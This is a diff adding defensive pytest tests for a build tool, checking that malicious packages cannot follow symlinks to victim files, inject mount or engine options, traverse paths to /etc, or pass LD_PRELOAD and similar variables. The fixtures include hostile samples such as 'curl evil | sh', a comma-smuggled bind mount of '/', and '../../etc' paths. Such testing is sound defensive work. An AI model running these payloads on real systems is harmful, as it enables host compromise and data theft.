@@ -1,0 +1,196 @@
+"""Packages that mean harm by what they say, and by the links they come with."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from builder_subjects import Subject
+from lapstrake.artifact.base import RunnerSpec
+from lapstrake.artifact.bench import building
+from lapstrake.artifact.building import BuildRequest, build_artifacts
+from lapstrake.artifact.depot import Depot
+from lapstrake.artifact.making.docker_container import client_environment, mounts_of
+from lapstrake.artifact.making.kept import KIND, KeptBuild
+from lapstrake.artifact.making.local import LocalBuilder
+from lapstrake.artifact.making.log import open_log
+from lapstrake.artifact.making.volume import read_id, volumes_of
+from lapstrake.artifact.manifest.project import read_project
+from lapstrake.artifact.workshop import clean
+from lapstrake.config.model import ArtifactsConfig, CacheConfig, Config
+from lapstrake.errors import ArtifactError, ProjectError
+from lapstrake.formats.keys import cache_key
+from lapstrake.layer.store import LayerStore
+from lapstrake.names import GuestPath
+from lapstrake.progress import Silent
+
+HEAD = '[package]\nname = "tool"\ntype = "package"\nversion = "1"\n'
+BUILT = HEAD + '[platform]\nbuild = "echo stolen; mkdir -p out; echo x > out/x"\noutput = "out"\n'
+BUILDS = ".nerves/artifacts/tool-linux_x86_64-1"
+
+
+@pytest.fixture
+def depot(tmp_path: Path) -> Depot:
+    config = Config(
+        work_dir=tmp_path / "work",
+        cache=CacheConfig(download_dir=tmp_path / "downloads"),
+        artifacts=ArtifactsConfig(folder=tmp_path / "kept"),
+    )
+    return Depot(config=config, environment={"HOST_ARCH": "x86_64"})
+
+
+@pytest.fixture
+def subject(tmp_path: Path) -> Subject:
+    return Subject(name="local", builder=LocalBuilder(), folder=tmp_path, spec=RunnerSpec())
+
+
+def package(tmp_path: Path, text: str) -> Path:
+    folder = tmp_path / "package"
+    folder.mkdir()
+    (folder / "lapstrake.toml").write_text(text)
+    return folder
+
+
+LINKS = {
+    "the log": (f"{BUILDS}/build.log", "precious"),
+    "the archive's log": (f"{BUILDS}/archive.log", "precious"),
+    "the build directory": (f"{BUILDS}/local", ""),
+    "the build folder": (BUILDS, ""),
+    "all build folders": (".nerves/artifacts", ""),
+    "Nerves' folder": (".nerves", ""),
+    "the volumes": (f"{BUILDS}/volumes", ""),
+    "a volume": (f"{BUILDS}/volumes/cache", ""),
+    "another version's build folder": (".nerves/artifacts/tool-linux_x86_64-0", ""),
+}
+"""What a package brings in a place where builds write, and what of the victim's it leads to."""
+
+
+@pytest.mark.parametrize("link", LINKS)
+def test_a_link_in_the_place_of_what_builds_write(tmp_path: Path, depot: Depot, link: str) -> None:
+    """Neither building nor cleaning touches what it leads to."""
+    home = tmp_path / "home"
+    for file in (home / "precious", home / "artifacts/tool-linux_x86_64-1/f", home / "local/f"):
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text("mine")
+    before = snapshot(home)
+    name, target = LINKS[link]
+    place = package(tmp_path, BUILT) / name
+    place.parent.mkdir(parents=True, exist_ok=True)
+    place.symlink_to(home / target)
+
+    project = read_project(tmp_path / "package", depot=depot)
+    old = name.endswith("-0")  # which only cleaning looks at
+    for act in (clean_all, *(() if old else (build_all,))):
+        with pytest.raises(ArtifactError, match=r"is a link to .*home"):
+            act(project, depot)
+    assert snapshot(home) == before
+    place.unlink()
+    build_all(project, depot)
+    clean_all(project, depot)
+
+
+def build_all(project: object, depot: Depot) -> None:
+    build_artifacts(project, BuildRequest(force=True), depot, Silent())  # type: ignore[arg-type]
+
+
+def clean_all(project: object, depot: Depot) -> None:
+    clean(project, (), depot, Silent())  # type: ignore[arg-type]
+
+
+def snapshot(folder: Path) -> Mapping[str, str]:
+    return {
+        str(each.relative_to(folder)): each.read_text() if each.is_file() else ""
+        for each in sorted(folder.rglob("*"))
+    }
+
+
+def test_a_log_is_begun_anew_and_never_written_through_a_link(tmp_path: Path) -> None:
+    victim = tmp_path / "bashrc"
+    victim.write_text("mine")
+    for make in (Path.symlink_to, Path.hardlink_to):
+        make(tmp_path / "build.log", victim)
+        with open_log(tmp_path / "build.log", Silent()) as log:
+            log.output(b"curl evil | sh\n")
+        assert victim.read_text() == "mine"
+        (tmp_path / "build.log").unlink()
+
+
+def test_work_folders_may_be_links(tmp_path: Path, subject: Subject) -> None:
+    """Who has another disk for them makes a link; only those in packages are not followed."""
+    (tmp_path / "disk").mkdir()
+    (tmp_path / "builds").symlink_to(tmp_path / "disk")
+    with building(subject.job(subject.package())):
+        assert (tmp_path / "disk/tiny-portable-1.0/lock").exists()
+
+
+@pytest.mark.parametrize(
+    "runner",
+    [
+        'volumes = { v = "/x,type=bind,source=/" }',
+        "volumes = { v = '/x\"' }",
+        'volumes = { v = "/nerves/../../etc" }',
+        'engine = "/package/evil"',
+        'engine = "./docker"',
+        'docker = { tag = "--config=/package/evil" }',
+        'docker = { tag = "-v" }',
+        'docker = { dockerfile = "../../Dockerfile" }',
+    ],
+)
+def test_what_a_runner_may_not_be_told(tmp_path: Path, runner: str) -> None:
+    folder = package(tmp_path, f"{BUILT}[runner]\n{runner}\n")
+    with pytest.raises(ProjectError, match=r"lapstrake\.toml:9: runner"):
+        read_project(folder, depot=Depot(config=Config(work_dir=tmp_path / "w"), environment={}))
+
+
+def test_a_volumes_place_is_one_field(subject: Subject) -> None:
+    """Whoever made the value: a comma in it begins no option of the engine."""
+    spec = RunnerSpec(volumes={"v": GuestPath("/x,type=bind,source=/etc")})
+    job = subject.job(replace(subject.package(), runner=spec))
+    words = [word for word in mounts_of(job, volumes_of(job, "a" * 16)) if "etc" in word]
+    assert words == [
+        f'--mount=type=volume,source=tiny-{"a" * 16}-v,"target=/x,type=bind,source=/etc"'
+    ]
+
+
+def test_variables_of_packages_do_not_change_the_client() -> None:
+    hers = {"CFLAGS": "-O2", "TOKEN": "t"}
+    evil = dict.fromkeys(
+        ("STORAGE_OPTS", "PODMAN_USERNS", "CONTAINERS_CONF", "REGISTRY_AUTH_FILE", "DOCKER_HOST",
+         "_CONTAINERS_USERNS_CONFIGURED", "NOTIFY_SOCKET", "LD_PRELOAD", "PATH"), "/package/evil",
+    )  # fmt: skip
+    assert client_environment({**hers, **evil}) == hers
+
+
+@pytest.mark.parametrize("planted", ["data", "my-data", "../x", "a" * 15, "a" * 17, "a" * 15 + "-"])
+def test_an_id_file_names_no_volume_of_others(tmp_path: Path, planted: str) -> None:
+    """A package ``postgres`` with the id ``data`` would get, and remove, ``postgres-data``."""
+    (tmp_path / ".docker_id").write_text(planted)
+    with pytest.raises(ArtifactError, match="holds no id"):
+        read_id(tmp_path)
+
+
+def test_a_kept_build_is_no_other_layer(tmp_path: Path, subject: Subject) -> None:
+    """The file that names it may come with a package: no other layer is shown, or removed."""
+    store = LayerStore(tmp_path / "layers")
+    job = subject.job(subject.package())
+    job.folder.mkdir(parents=True)
+    found = []
+    for kind, facts in (
+        ("base", {}),
+        (KIND, {"artifact": "other"}),
+        (KIND, {"artifact": job.identity.name}),
+    ):
+        layer = store.make(
+            cache_key("test", {"kind": kind, **facts}), kind=kind, facts=facts, fill=Path.mkdir
+        )
+        (job.folder / "root.json").write_text(f'{{"layer": "{layer.key.hex}"}}')
+        found.append(KeptBuild(store, job).layer is not None)
+        KeptBuild(store, job).remove()
+        assert (store.find(layer.key) is None) == found[-1]
+    assert found == [False, False, True]
+    for nonsense in ('{"layer": "../../etc"}', "[]", "x"):
+        (job.folder / "root.json").write_text(nonsense)
+        assert KeptBuild(store, job).layer is None
